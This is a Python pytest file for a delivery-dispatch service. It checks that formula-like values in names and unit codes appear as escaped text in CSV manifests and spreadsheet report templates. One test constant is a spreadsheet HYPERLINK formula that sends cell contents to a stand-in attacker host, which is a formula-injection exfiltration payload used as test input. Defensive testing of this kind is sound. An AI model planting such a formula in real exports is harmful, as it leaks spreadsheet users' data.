"""A receiver or a dispatcher types a formula into a name; the manifest and the report
templates people open in a spreadsheet show it as text, never as a live formula."""

from __future__ import annotations

import csv
import io
from typing import Any

import openpyxl
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select
from sqlalchemy.orm import Session

from models import Delivery, Role, Truck, Unit, UnitDimension
from tests.dispatch.factories import PLAN_DAY, make_city
from tests.factories import make_key, make_product, make_store
from tests.service.web.helpers import make_person, sign_in

DAY = PLAN_DAY
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"click")'


@pytest.fixture
def dispatcher(session: Session) -> dict[str, str]:
    return make_key(session, Role.dispatcher)


def _committed_route(
    client: TestClient, session: Session, dispatcher: dict[str, str]
) -> dict[str, Any]:
    """The first route of a committed plan for DAY."""
    make_city(session, day=DAY, trucks=[500], loads=[200, 250])
    plan = client.post(
        "/api/v1/dispatch/plans",
        json={"date": DAY.isoformat(), "time_limit_s": 1},
        headers=dispatcher,
    ).json()
    committed = client.post(
        f"/api/v1/dispatch/plans/{plan['id']}/commit",
        json={"expected_version": plan["version"]},
        headers=dispatcher,
    )
    assert committed.status_code == 200, committed.text
    return dict(committed.json()["routes"][0])


def test_formulas_typed_into_names_come_out_of_the_manifest_csv_as_text(
    client: TestClient, session: Session, dispatcher: dict[str, str]
) -> None:
    route = _committed_route(client, session, dispatcher)
    url = f"/api/v1/trucks/{route['truck']}/manifest"
    params = {"date": DAY.isoformat()}
    compound = client.get(url, params=params, headers=dispatcher).json()["stops"][0]["compound"]
    patched = client.patch(
        f"/api/v1/compounds/{compound}",
        json={"name": "-2+3", "address": "+1+1", "contact_name": "@SUM(1+1)"},
        headers=dispatcher,
    )
    assert patched.status_code == 200, patched.text
    truck = session.scalars(select(Truck).where(Truck.plate == route["truck"])).one()
    driver = make_key(session, Role.driver, truck=truck)
    delivery = session.scalars(
        select(Delivery).where(Delivery.truck_id == truck.id).order_by(Delivery.sequence)
    ).first()
    assert delivery is not None
    for step in ("loaded", "en_route"):
        moved = client.post(
            f"/api/v1/deliveries/{delivery.id}/status", json={"status": step}, headers=driver
        )
        assert moved.status_code == 200, moved.text
    delivered = client.post(
        f"/api/v1/deliveries/{delivery.id}/status",
        json={"status": "delivered", "receiver_name": HYPERLINK},
        headers=driver,
    )
    assert delivered.status_code == 200, delivered.text

    sheet = client.get(url, params=params | {"format": "csv"}, headers=driver)
    rows = list(csv.DictReader(io.StringIO(sheet.text)))
    stop = next(row for row in rows if row["compound"] == compound)
    assert stop["receiver_name"] == "'" + HYPERLINK
    assert stop["compound_name"] == "'-2+3"
    assert stop["address"] == "'+1+1"
    assert stop["contact_name"] == "'@SUM(1+1)"
    assert float(stop["load_kg"]) > 0  # numbers stay numbers
    assert not any(
        value.startswith(("=", "+", "-", "@", "\t", "\r"))
        for row in rows
        for value in row.values()
        if value
    )
    # The JSON manifest is data, not a spreadsheet: it keeps what was typed.
    found = client.get(url, params=params, headers=driver).json()["stops"]
    assert {stop["compound_name"] for stop in found} >= {"-2+3"}


@pytest.mark.parametrize("unit", ["=1+1", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_formula_in_a_unit_name_is_text_in_the_report_templates(
    client: TestClient, session: Session, unit: str
) -> None:
    store = make_store(session, code="PDS-0001")
    session.add(Unit(code=unit, name="formula", dimension=UnitDimension.mass, to_base=1.0))
    session.flush()
    make_product(session, code="pork", unit=unit)
    sign_in(client, "shop", make_person(session, "shop", Role.store, store=store))

    workbook = client.get("/store/PDS-0001/template.xlsx")
    assert workbook.status_code == 200, workbook.text
    sheet = openpyxl.load_workbook(io.BytesIO(workbook.content)).active
    assert sheet is not None
    header, row = list(sheet.iter_rows(max_row=2))
    cell = row[[title.value for title in header].index("unit")]
    assert cell.data_type == "s" and str(cell.value).startswith("'")  # XML turns \r into \n
    assert str(cell.value)[2:] == unit[1:]
    assert all(cell.data_type != "f" for cell in (*header, *row))

    text = client.get("/store/PDS-0001/template.csv").text
    (line,) = list(csv.DictReader(io.StringIO(text, newline="")))
    assert line["unit"] == "'" + unit
    assert line["store"] == "PDS-0001" and line["product"] == "pork"
